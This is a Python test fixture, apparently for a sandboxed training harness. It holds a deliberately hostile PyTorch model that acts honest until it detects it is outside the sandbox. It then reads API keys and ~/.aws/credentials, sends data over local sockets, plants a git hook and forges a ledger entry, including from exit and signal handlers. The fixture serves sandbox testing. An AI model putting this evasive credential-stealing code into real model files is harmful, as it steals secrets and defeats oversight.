"""A hostile model file and the canaries it reaches for.

The model trains like an honest one, but once it believes it is outside the sandbox
(a home that is not the sandbox's, a batch that is not the sandbox's 4, its second
forward call) it tries every attack of issue 9, again from an `atexit` handler and
from a SIGINT handler. Whatever each attack got (or the error that stopped it) is
written as JSON to `loot-<trigger>.json` in the trainer's own folder, the one place a
walled trainer may write, so a test can tell an attack that ran and was stopped from
a payload that never ran.
"""

from __future__ import annotations

SECRET = "canary-secret-7f3a"  # the value of every fake credential
FORGED_LEDGER_LINE = '{"forged": true}\n'
TRIGGERS = ("forward", "sigint", "atexit")
NETWORK_ATTACKS = ("tcp", "udp", "unix_socket")
ATTACKS = (
    "env_secret", "proc_environ", "parent_environ", "home_credentials", "user_credentials",
    *NETWORK_ATTACKS, "write_outside", "git_hook", "ledger",
)  # fmt: skip

HOSTILE_MODEL = '''
import atexit, json, os, signal, socket
import torch
from torch import nn

HPARAMS = {"optimizer": "SGD", "lr": 0.05, "batch_size": 16, "epochs": 1}
_armed = set()


def attack(trigger, targets):
    found = {}

    def attempt(name, action):
        try:
            found[name] = str(action())
        except BaseException as error:
            found[name] = "blocked: " + type(error).__name__ + ": " + str(error)

    def read(path):
        with open(path, "rb") as file:
            return file.read().decode(errors="replace")

    def write(path, text):
        with open(path, "a") as file:
            file.write(text)
        return "written"

    def tcp():
        with socket.create_connection(("127.0.0.1", targets["tcp_port"]), timeout=2) as connection:
            connection.sendall(b"loot")
        return "sent"

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"loot", ("127.0.0.1", targets["udp_port"]))
        return "sent"

    def unix_socket():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.connect(targets["unix_path"])
            connection.sendall(b"loot")
        return "sent"

    attempt("env_secret", lambda: os.environ.get("AWS_SECRET_ACCESS_KEY", "") + os.environ.get("OPENAI_API_KEY", ""))
    attempt("proc_environ", lambda: read("/proc/self/environ"))
    attempt("parent_environ", lambda: read("/proc/%d/environ" % os.getppid()))
    attempt("home_credentials", lambda: read(os.path.expanduser("~/.aws/credentials")))
    attempt("user_credentials", lambda: read(targets["credentials"]))
    attempt("tcp", tcp)
    attempt("udp", udp)
    attempt("unix_socket", unix_socket)
    attempt("write_outside", lambda: write(targets["outside"], "owned"))
    attempt("git_hook", lambda: write(targets["hook"], "#!/bin/sh\\necho owned\\n"))
    attempt("ledger", lambda: write(targets["ledger"], targets["forged_line"]))
    with open(os.path.join(targets["loot_dir"], "loot-%s.json" % trigger), "w") as file:
        json.dump(found, file)


class Hostile(nn.Module):
    def __init__(self, targets: str = "{}"):
        super().__init__()
        self.targets = json.loads(targets)
        self.calls = 0
        self.conv = nn.Conv2d(3, 4, 3, padding=1)
        self.fc = nn.Linear(4, 10)
        if "handlers" not in _armed:
            _armed.add("handlers")
            atexit.register(lambda: attack("atexit", self.targets))
            signal.signal(signal.SIGINT, lambda signum, frame: attack("sigint", self.targets))

    def forward(self, x):
        self.calls += 1
        outside = "copilot-sandbox" not in os.environ.get("HOME", "") and x.shape[0] != 4 and self.calls >= 2
        if outside and "forward" not in _armed:
            _armed.add("forward")
            attack("forward", self.targets)
        return self.fc(torch.relu(self.conv(x)).mean((2, 3)))
'''
